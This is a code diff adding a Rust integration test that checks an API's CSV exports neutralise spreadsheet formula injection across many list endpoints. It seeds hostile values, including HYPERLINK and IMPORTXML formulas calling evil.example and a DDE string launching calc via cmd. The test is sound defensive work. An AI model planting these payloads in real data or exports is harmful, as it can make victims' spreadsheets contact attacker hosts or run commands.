@@ -115,6 +115,82 @@ async fn every_list_is_csv_on_request() {
     assert!(header(&response, "content-type").is_some_and(|t| t.starts_with("application/json")));
 }
 
+/// Whether a cell would start a spreadsheet formula.
+fn formula(cell: &str) -> bool {
+    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
+}
+
+#[tokio::test]
+async fn no_csv_cell_starts_a_formula_in_any_list() {
+    let app = spawn_app().await;
+    chancery::seed::load_demo(&app.pool)
+        .await
+        .unwrap_or_else(|e| panic!("{e:#}"));
+    let kz = json(app.get("/v1/actors/kazakhstan").await).await;
+    let hostile = app
+        .create_actor(json!({"kind": "state", "name": "=HYPERLINK(\"http://evil.example\",\"x\")",
+                             "aliases": ["@SUM(A1:A9)"], "description": "+cmd|' /C calc'!A0", "slug": "hostile"}))
+        .await;
+    app.create_role(
+        "hostile",
+        json!({"of_actor_id": kz["id"], "title": "-2+3", "start": "2022"}),
+    )
+    .await;
+    let citation = app
+        .create(
+            "/v1/citations",
+            json!({"source": "=1+1", "title": "\tTabbed", "excerpt": "@here"}),
+        )
+        .await;
+    app.create("/v1/statements", json!({"speaker_id": hostile["id"], "stated_on": "2022-06", "kind": "other",
+                                         "text": "=IMPORTXML(\"http://evil.example\")", "topics": ["security"],
+                                         "subjects": [{"actor_id": kz["id"], "stance": "neutral"}],
+                                         "citations": [{"citation_id": citation["id"], "locator": "-1", "quote": "+quote"}]}))
+        .await;
+    app.create("/v1/visits", json!({"visitor_ids": [hostile["id"]], "host_id": kz["id"], "start": "2022-06",
+                                     "kind": "other", "place": "@Astana", "occasion": "=occasion", "summary": "-summary",
+                                     "citations": [{"citation_id": citation["id"]}]}))
+        .await;
+    let lists = [
+        "/v1/actors?q=hyperlink".to_owned(),
+        "/v1/actors/hostile/roles".to_owned(),
+        "/v1/statements".to_owned(),
+        "/v1/visits".to_owned(),
+        "/v1/citations".to_owned(),
+        format!("/v1/citations/{}/cited-by", uuid_of(&citation)),
+        "/v1/actors/kazakhstan/timeline?from=2022-06&to=2022-06".to_owned(),
+        "/v1/actors/hostile/revisions".to_owned(),
+        "/v1/changes?limit=500".to_owned(),
+        "/v1/actors/kazakhstan/engagement?from=2022-06&to=2022-06".to_owned(),
+        "/v1/dyads?a=kazakhstan&b=hostile&from=2022&to=2022".to_owned(),
+        "/v1/network?from=2022-06&to=2022-06&level=participant".to_owned(),
+    ];
+    for path in lists {
+        let text = get_as(&app, &path, "text/csv")
+            .await
+            .text()
+            .await
+            .unwrap_or_default();
+        let rows = parse_csv(&text);
+        assert!(rows.len() >= 2, "{path}: {text}");
+        let cells: Vec<&String> = rows.iter().flatten().collect();
+        assert!(!cells.iter().any(|c| formula(c)), "{path}: {text}");
+        // What was neutralised is still there, behind the quote mark (revisions and the feed
+        // hold records as JSON, which starts with `{`; a dyad's cells are kinds and counts).
+        let json_cells =
+            path.contains("revisions") || path.contains("changes") || path.contains("dyads");
+        assert!(
+            json_cells
+                || cells.iter().any(|c| c.starts_with("'=")
+                    || c.starts_with("'-")
+                    || c.starts_with("'@")
+                    || c.starts_with("'+")
+                    || c.starts_with("'\t")),
+            "{path} shows none of the hostile values: {text}"
+        );
+    }
+}
+
 #[tokio::test]
 async fn citations_are_csl_json_on_request() {
     let app = spawn_app().await;
